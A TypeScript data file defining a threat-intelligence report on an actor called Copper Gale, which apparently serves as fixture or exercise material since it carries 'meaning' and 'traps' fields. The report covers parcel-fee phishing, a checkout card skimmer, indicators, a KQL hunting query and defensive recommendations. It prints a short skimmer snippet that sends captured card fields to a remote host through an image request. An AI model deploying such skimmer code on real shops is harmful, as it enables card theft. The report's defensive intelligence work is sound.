import type { Indicator } from "../indicator.js";
import { html, htmlTable, plain } from "../prose.js";
import { specimens } from "../specimens.js";
import type { Article } from "./article.js";

const indicators: readonly Indicator[] = [
  ["secure-parcel.example", "microsoft"],
  ["parcel-fee.example", "microsoft"],
  ["cdn-checkout.example", "microsoft"],
  ["203.0.113.17", "microsoft"],
  ["https://secure-parcel.example/t/7Q2/pay", "microsoft"],
  ["https://cdn-checkout.example/lib/cart.min.js", "microsoft"],
  [specimens.skimmer, "microsoft"],
];

export const copperGale: Article = {
  name: "copper-gale",
  title: "Copper Gale: one crew behind parcel fees and checkout skimmers",
  created: "2026-02-24T15:02:11Z",
  updated: "2026-02-26T09:40:05Z",
  featured: true,
  image: "https://images.intel.example.com/articles/copper-gale.png",
  tags: ["Copper Gale", "Letterbox", "Tillworm", "Phishing", "Skimmer", "Retail", "Postal and courier"],
  summary: plain(`
Since September 2025 the actor that we track as Copper Gale has sent text messages about unpaid parcel fees and, from
the same servers, has fed card skimmers to small web shops. Three addresses were used in turn, each overlapping the
next. This report describes the chain and gives the first hosts; we believe that most of the infrastructure has not
been published yet.
`),
  body: html(`
<h2>Snapshot</h2>
<p>Copper Gale is a financially motivated actor that collects payment cards in two ways. The first is a phishing kit
called <b>Letterbox</b>: a page that looks like a courier's tracking service, asks for a redelivery fee of about two
euro, and keeps the card. The second is <b>Tillworm</b>, a short script that is placed on the checkout page of web shops
and copies the payment form while the customer types. Until now the two were reported as separate problems. We assess
with high confidence that one crew runs both, because pages of the first kind and scripts of the second kind were served
from the same address, under the same certificate, during the same weeks.</p>
<p>Activity began in the second week of September 2025 and has not ended. Victims of the phishing are consumers; victims
of the skimmer are shops with fewer than ten employees, whose owners learnt of it from their bank.</p>

<h2>How a parcel becomes a card number</h2>
<ol>
<li><b>Message.</b> The target receives a text message that names a courier and a fee (T1660). The link is one of several
short-lived host names. Roughly one message in four goes to a number whose owner had in fact ordered something in the
days before, which we explain by the skimmed order data of the second operation.</li>
<li><b>Redirect.</b> Most host names in the messages do not show the page themselves. They answer with a redirect to
<code>secure-parcel[.]example</code>, which was the only page with the full kit during September and October. Visitors
from outside the targeted country, and visitors on a desktop, are sent on to the real courier.</li>
<li><b>Form.</b> The page at <code>hxxps://secure-parcel[.]example/t/7Q2/pay</code> asks for name, address, telephone
number and card (T1056.003). The path after <code>/t/</code> is the campaign of the text message, not of the
victim.</li>
<li><b>One-time code.</b> If the bank asks for a second factor, the operator requests it through a waiting screen and
enters it by hand. We measured between 40 and 180 seconds.</li>
</ol>

<h2>The skimmer</h2>
<p>Tillworm arrives through the shop's own tag manager, whose password was bought or guessed (T1078.004). The tag loads
<code>hxxps://cdn-checkout[.]example/lib/cart.min.js</code>, 11 kB of JavaScript without obfuscation worth the name
(T1059.007). It waits for a field whose name contains <code>card</code> or <code>cvv</code>, copies the form on every
change, and sends it as the query of a picture (T1041). Nothing is written to the shop's server, so a scan of its files
finds nothing.</p>
<pre><code class="language-javascript">document.addEventListener("change", (e) =&gt; {
  if (!/card|cvv|expiry/i.test(e.target.name)) return;
  new Image().src = base + "/p.gif?d=" + btoa(JSON.stringify(snapshot(e.target.form)));
});</code></pre>
<p>When we first looked, the script was loaded by one shop. Host pairs show that the same shop was switched to another
script host in December, within a day, and that two more shops followed. We do not name the shops; their owners have
been told.</p>

<h2>Infrastructure</h2>
<p>The first server, <code>203[.]0[.]113[.]17</code>, stands at a hoster that answers no complaints. It was used from 8
September to 20 December 2025 and has been given to other customers since: <i>what resolves there today is not this
actor.</i> Before it was given up, its names had begun to appear on a second server, and on a third before the second was
given up. A name that stays for weeks on both sides of such a move is the best lead that we know of.</p>
<p>Beyond addresses, the operators were careless in three ways:</p>
<ul>
<li>a self-signed certificate with a placeholder for its organisation is served on port 443 and 8443 of more than one
server, and was later copied to hosts that share no address with them;</li>
<li>one analytics account is on most of the parcel pages, probably because the kit was copied with it;</li>
<li>some of the domains were registered with a mailbox of the operator and not behind the privacy service that stands
before the others.</li>
</ul>
<p>None of the three is on all hosts. At least one host stands behind a content delivery network and one on shared
hosting with hundreds of strangers; there the address proves nothing at all.</p>

<h2>ATT&amp;CK techniques</h2>
<table>
<thead><tr><th>Tactic</th><th>Technique</th><th>Use</th></tr></thead>
<tbody>
<tr><td>Resource development</td><td>T1583.001 Domains</td><td>about two domains a week, often registered in pairs</td></tr>
<tr><td>Resource development</td><td>T1583.003 Virtual private server</td><td>three servers in turn</td></tr>
<tr><td>Initial access</td><td>T1660 Phishing (mobile)</td><td>text messages on unpaid fees</td></tr>
<tr><td>Initial access</td><td>T1078.004 Cloud accounts</td><td>tag manager accounts of shops</td></tr>
<tr><td>Execution</td><td>T1059.007 JavaScript</td><td>Tillworm on the checkout page</td></tr>
<tr><td>Collection</td><td>T1056.003 Web portal capture</td><td>Letterbox form</td></tr>
<tr><td>Exfiltration</td><td>T1041 Over C2 channel</td><td>query of a picture</td></tr>
</tbody>
</table>

<h2>Detections and hunting</h2>
<p>Shops: compare the scripts that your checkout page loads with those that it loaded in August. Everybody else: look for
visits to the hosts below, and remember the dates.</p>
<pre><code class="language-kusto">let hosts = dynamic(["secure-parcel.example", "parcel-fee.example", "cdn-checkout.example"]);
DeviceNetworkEvents
| where Timestamp between (datetime(2026-02-01) .. datetime(2026-03-02))
| where ActionType !has "ConnectionFailed"
| extend Host = tostring(parse_url(tolower(RemoteUrl)).Host)
| where Host in (hosts)
| summarize Visits = count(), First = min(Timestamp), Last = max(Timestamp) by DeviceName, Host</code></pre>
<p>An address is worth a search only for the time in which it was theirs. A hit on <code>203[.]0[.]113[.]17</code> in
February 2026 is somebody's pottery class.</p>

<h2>Recommendations</h2>
<ul>
<li>Require a second factor on tag managers and content delivery consoles.</li>
<li>Set a content security policy on checkout pages and read its reports.</li>
<li>Block by host name and by date, not by address.</li>
</ul>

<h2>Indicators</h2>
${htmlTable(indicators)}
<p>Related: <a href="https://intel.example.com/profiles/copper-gale">profile of Copper Gale</a>,
<a href="https://intel.example.com/articles/parcel-fee-texts-spring">the spring wave of 2025</a>.</p>
`),
  indicators,
  meaning:
    "the flagship: from the three hosts and the address named here, within the address's own time, to all of copper-heron",
  traps: { "203.0.113.17": "given to honest customers in January 2026; counts until 2025-12-20 only" },
};
